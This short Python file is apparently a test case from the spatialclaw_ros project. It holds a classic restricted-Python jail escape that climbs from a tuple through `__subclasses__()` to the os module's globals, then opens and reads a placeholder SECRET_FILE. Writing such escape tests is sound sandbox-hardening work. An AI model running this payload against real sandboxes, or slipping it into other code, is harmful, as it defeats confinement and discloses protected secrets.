# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""The object tree: from a tuple to a class whose module knows the operating system.

Known since the first "restricted Python" jails and from every CTF since: `__subclasses__()` lists
all classes, and `os._wrap_close.__init__.__globals__` is the os module.
"""

# act: read

wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
namespace = wrap.__init__.__globals__
fd = namespace['open'](SECRET_FILE, namespace['O_RDONLY'])
print(namespace['read'](fd, 100))
